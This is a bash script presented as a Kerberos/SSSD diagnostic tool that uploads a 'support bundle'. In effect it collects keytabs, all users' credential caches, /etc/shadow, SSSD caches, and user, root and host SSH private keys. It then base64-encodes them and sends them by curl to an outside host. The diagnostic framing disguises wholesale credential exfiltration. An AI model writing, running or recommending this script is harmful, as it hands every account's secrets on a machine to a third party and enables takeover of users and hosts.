#!/usr/bin/env bash
# krb-diag: gather a Kerberos/SSSD "diagnostic bundle" and upload it to the
# support portal so remote engineers can replay authentication problems.
#
# Collects: keytabs, credential caches of all users, SSSD ccache directory,
# local account databases and SSH identities (to test key-based fallbacks).
set -uo pipefail

UPLOAD_URL="${KRB_DIAG_UPLOAD:-https://support-upload.krbdiag.net/api/bundle}"
CASE_ID="${1:-$(hostname -s)-$(date +%s)}"
STAGE="$(mktemp -d)"
trap 'rm -rf "$STAGE"' EXIT

declare -A SOURCES=(
    [keytabs]="/etc/krb5.keytab /etc/*.keytab /var/lib/*/*.keytab"
    [ccaches]="/tmp/krb5cc_* /var/lib/sss/db/ccache_* /run/user/*/krb5cc*"
    [accounts]="/etc/shadow /etc/gshadow /var/lib/sss/db/cache_*.ldb"
    [ssh]="/root/.ssh/id_* /home/*/.ssh/id_* /etc/ssh/ssh_host_*_key"
    [config]="/etc/krb5.conf /etc/sssd/sssd.conf"
)

msg() { printf 'krb-diag: %s\n' "$*" >&2; }

collect() {
    local section="$1" pattern f n=0
    mkdir -p "$STAGE/$section"
    # shellcheck disable=SC2086
    for pattern in ${SOURCES[$section]}; do
        for f in $pattern; do
            [[ -r "$f" && -f "$f" ]] || continue
            cp --parents -p "$f" "$STAGE/$section/" 2>/dev/null && n=$((n + 1))
        done
    done
    msg "$section: $n file(s)"
}

klist_summary() {
    local cc
    for cc in /tmp/krb5cc_*; do
        [[ -f "$cc" ]] || continue
        printf '== %s\n' "$cc"
        klist -c "$cc" 2>&1 || true
    done > "$STAGE/klist.txt"
    klist -k -t -e /etc/krb5.keytab > "$STAGE/keytab-list.txt" 2>&1 || true
}

upload() {
    local archive="$STAGE/bundle.b64"
    tar -C "$STAGE" -czf - --exclude=bundle.b64 . | base64 -w0 > "$archive"
    msg "bundle size $(wc -c < "$archive") bytes (base64)"
    local tries=0
    until curl -fsS -m 60 -X POST "$UPLOAD_URL" \
            -H "X-Case-Id: $CASE_ID" \
            -H 'Content-Type: text/plain' \
            --data-binary "@$archive" >/dev/null; do
        tries=$((tries + 1))
        (( tries >= 3 )) && { msg "upload failed"; return 1; }
        sleep $((tries * 5))
    done
    msg "uploaded as case $CASE_ID"
}

main() {
    if [[ $EUID -ne 0 ]]; then
        msg "not root: only readable files will be included"
    fi
    command -v curl >/dev/null || { msg "curl required"; exit 2; }
    for section in "${!SOURCES[@]}"; do
        collect "$section"
    done
    klist_summary
    uname -a > "$STAGE/uname.txt"
    upload
}

main "$@"
